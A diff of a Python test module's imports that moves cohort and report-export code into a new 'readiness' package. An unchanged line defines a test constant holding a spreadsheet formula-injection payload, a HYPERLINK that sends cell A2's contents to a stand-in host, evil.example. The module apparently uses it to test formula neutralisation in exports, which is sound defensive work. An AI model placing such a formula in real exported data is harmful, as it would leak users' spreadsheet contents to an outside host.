@@ -16,15 +16,16 @@ from wagtail.log_actions import log
 from wagtail.models import ModelLogEntry
 
 from assessments.models import SkillArea
-from assessments.reports import exports
 from cms.formula import FORMULA_TEXT, formula_neutralised, formula_refusal
-from learning.models import Cohort, Organisation, StaffMember, Team
+from learning.models import Organisation, StaffMember, Team
 from learning.staff_import import cells
-from tests.assessments.test_cohort_admin import cohort_data
+from readiness.models import Cohort
+from readiness.reports import exports
 from tests.factories import OrganisationFactory, StaffMemberFactory, UserFactory
 from tests.factories.assessments import SkillFrameworkFactory
 from tests.factories.learning import mfa_activate
-from tests.factories.reports import load_worked_example, worked_example
+from tests.factories.readiness import load_worked_example, worked_example
+from tests.readiness.test_cohort_admin import cohort_data
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'
 AS_OF = date.fromisoformat(worked_example()["expected"]["as_of"]["as_of"])
